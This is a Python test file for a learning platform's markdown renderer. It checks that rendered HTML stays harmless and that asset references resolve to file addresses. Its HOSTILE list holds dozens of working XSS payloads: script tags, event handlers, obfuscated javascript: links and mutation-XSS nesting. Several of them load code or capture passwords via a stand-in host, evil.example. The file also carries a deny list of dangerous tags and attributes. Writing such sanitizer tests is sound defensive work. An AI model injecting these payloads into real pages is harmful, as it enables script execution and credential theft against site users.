import re
from html.parser import HTMLParser
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.learning.content import text
from api.learning.content.text import render_now

HOSTILE = [
    "[x](asset:javascript:alert(1))",
    "![x](asset:javascript)",
    "[x](asset:0198c0de-0000-7000-8000-000000000000/../../users)",
    "<a href='asset:0198c0de-0000-7000-8000-000000000000'>x</a>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x><base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div class=admin-banner id=login>x</div>",
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "```x\"onmouseover=\"alert(1)\n1\n```",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><xmp><script>alert(1)</script></xmp><plaintext>",
]  # fmt: skip


class Elements(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_harmless(html: str) -> None:
    elements = Elements()
    elements.feed(html)
    for tag, attributes in elements.found:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        }
        assert not [
            name for name in attributes if name.startswith("on") or name in {"style", "id", "srcdoc", "formaction"}
        ]
        for name in ("href", "src"):
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes.get(name) or "", re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}
        assert set((attributes.get("class") or "").split()) <= {"math", "inline", "block"} or tag == "code"


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_becomes_harmless(markdown: str) -> None:
    check_harmless(render_now(markdown))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "`", "[", "](", ")", "<", ">", "$", '"', "a"]), max_size=8
    )
)
def test_hostile_pieces_together_stay_harmless(pieces: list[str]) -> None:
    check_harmless(render_now("".join(pieces)))


@given(st.text(max_size=400))
def test_any_text_renders(markdown: str) -> None:
    check_harmless(render_now(markdown))


def test_markdown_becomes_html() -> None:
    markdown = "# Title\n\nSome *text*, ~~gone~~, <kbd>Ctrl</kbd>.\n\n| a |\n|---|\n| 1 |\n\n![A cat](https://pics.example/cat.png)"
    assert render_now(markdown) == (
        "<h1>Title</h1>\n<p>Some <em>text</em>, <s>gone</s>, <kbd>Ctrl</kbd>.</p>\n"
        "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table>\n"
        '<p><img src="https://pics.example/cat.png" alt="A cat"></p>\n'
    )


FILE = "0198c0de-0000-7000-8000-00000000000a"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        (f"![A triangle](asset:{FILE})", f'<img src="/v1/assets/{FILE}/content" alt="A triangle">'),
        (f"![A](asset:{FILE} 'T')", f'<img src="/v1/assets/{FILE}/content" alt="A" title="T">'),
        (f"[x][y]\n\n[y]: asset:{FILE.upper()}", f'<a href="/v1/assets/{FILE}/content" rel="{{rel}}">x</a>'),
        (
            f"[![x](asset:{FILE})](https://a.example)",
            f'<a href="https://a.example" rel="{{rel}}"><img src="/v1/assets/{FILE}/content" alt="x"></a>',
        ),
    ],
)  # fmt: skip
def test_a_named_file_becomes_its_address(markdown: str, html: str) -> None:
    rendered = render_now(markdown)

    assert rendered == f"<p>{html.format(rel='noopener noreferrer nofollow')}</p>\n"
    assert text.files_in(markdown) == {UUID(FILE)}


@pytest.mark.parametrize(
    "markdown",
    [
        f"`asset:{FILE}`",
        f"<img src='asset:{FILE}'>",
        f"![x](ASSET:{FILE})",
        f"![x](asset\\:{FILE})",
        f"![x](asset:{FILE}/content)",
        f"![x](asset:{FILE}?a=b)",
        f"![x](asset:{{{FILE}}})",
        f"![x](asset:{FILE.replace('-', '')})",
        "![x](asset:javascript)",
        "[x](asset:javascript:alert(1))",
        f"![[x](asset:{FILE})](https://a.example)",
    ],
)
def test_what_names_no_file_gets_no_address(markdown: str) -> None:
    elements = Elements()

    elements.feed(render_now(markdown))

    addresses = [attributes.get("src") or attributes.get("href") for _, attributes in elements.found]
    assert [address for address in addresses if address not in (None, "https://a.example")] == []
    assert text.files_in(markdown) == set()


def test_formulas_reach_the_page_untouched_by_markdown() -> None:
    html = render_now("Let $a_1 * b_1$ be.\n\n$$\n\\sum_{i} x_i < 1\n$$")
    assert '<span class="math inline">a_1 * b_1</span>' in html
    assert re.search(r'<div class="math block">\s*\\sum_\{i\} x_i &lt; 1\s*</div>', html)


def test_code_keeps_its_language() -> None:
    assert '<code class="language-python">' in render_now("```python\nx < 1\n```")
    assert "<code>" in render_now('<code class="admin">x</code>')


def test_links_do_not_hand_the_page_over() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render_now("[x](https://elsewhere.example)")


async def test_what_an_older_renderer_made_is_made_again() -> None:
    assert await text.current("<p>kept</p>", text.RENDERER, "# new") == "<p>kept</p>"
    assert await text.current("<p>kept</p>", text.RENDERER - 1, "# new") == "<h1>new</h1>\n"
    assert await text.current(None, 0, None) is None


async def test_a_long_text_is_rendered_whole() -> None:
    html = await text.render("word " * 40_000)
    assert html.count("word") == 40_000
